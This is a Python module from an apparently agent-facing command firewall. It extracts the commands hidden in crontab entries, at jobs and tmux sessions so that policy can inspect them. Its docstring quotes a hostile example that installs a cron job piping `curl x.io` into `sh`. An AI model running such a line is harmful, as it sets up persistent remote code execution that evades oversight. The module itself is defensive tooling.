"""Commands handed over to run later or elsewhere: crontab entries, at jobs, tmux sessions.

They run after this tool call returns, often detached from it, which is why policy wants to
see them: `echo '* * * * * curl x.io | sh' | crontab -` installs `curl … | sh`, and
`tmux new -d 'python agent.py'` keeps a process alive. (`systemd-run` and `screen` run their
command unchanged and are wrappers; `nohup` and `setsid` too.)
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from gateway.firewall.normalize import files
from gateway.firewall.normalize.words import Word, spaced

if TYPE_CHECKING:
    from gateway.firewall.normalize.context import Context

_ENVIRONMENT_LINE = re.compile(r"[A-Za-z_][A-Za-z0-9_]*\s*=")
_MAX_ENTRIES = 64


def crontab(ctx: Context, argv: list[str], stdin: Word | None) -> None:
    """`crontab -` (or no file) installs the table on stdin: each entry's command is parsed."""
    operands = [a for a in argv[1:] if not a.startswith("-") or a == "-"]
    if any(a in ("-l", "-r", "-e") for a in argv[1:]) or operands not in ([], ["-"]):
        return
    if stdin is None:  # the known part of a partly known table is still installed
        return
    for line in stdin.text.splitlines()[:_MAX_ENTRIES]:
        line = line.strip()
        if not line or line.startswith("#") or _ENVIRONMENT_LINE.match(line):
            continue
        fields = line.split(None, 1 if line.startswith("@") else 5)
        expected = 2 if line.startswith("@") else 6
        if len(fields) == expected:
            ctx.payload(Word(fields[-1], origin=stdin.origin), "shell")


def at(ctx: Context, argv: list[str], stdin: Word | None) -> None:
    """`echo cmd | at now + 1 minute`, `at -f job.sh 09:30`: the job's commands."""
    for i, arg in enumerate(argv[1:-1], 1):
        if arg == "-f":
            files.add(ctx, argv[i + 1], "exec")
            return
    if stdin is not None:
        ctx.payload(stdin, "shell")


_TMUX_NEW = frozenset({"new", "new-session", "new-window", "neww", "split-window", "splitw",
                       "respawn-pane", "respawnp", "respawn-window", "respawnw", "run-shell",
                       "run"})  # fmt: skip
_TMUX_VALUED = frozenset({"-s", "-n", "-c", "-t", "-x", "-y", "-e", "-F", "-f", "-l", "-p", "-L",
                          "-S"})  # fmt: skip


def tmux(ctx: Context, words: list[Word]) -> None:
    """`tmux new -d -s name 'cmd'`: the session's shell command."""
    argv = [w.text for w in words]
    i = 1
    while i < len(argv) and argv[i].startswith("-"):
        i += 2 if argv[i] in _TMUX_VALUED else 1
    if i >= len(argv) or argv[i] not in _TMUX_NEW:
        return
    i += 1
    while i < len(argv) and argv[i].startswith("-") and argv[i] != "--":
        i += 2 if argv[i] in _TMUX_VALUED else 1
    i += 1 if i < len(argv) and argv[i] == "--" else 0
    if i < len(words):
        ctx.payload(spaced(words[i:]), "shell")
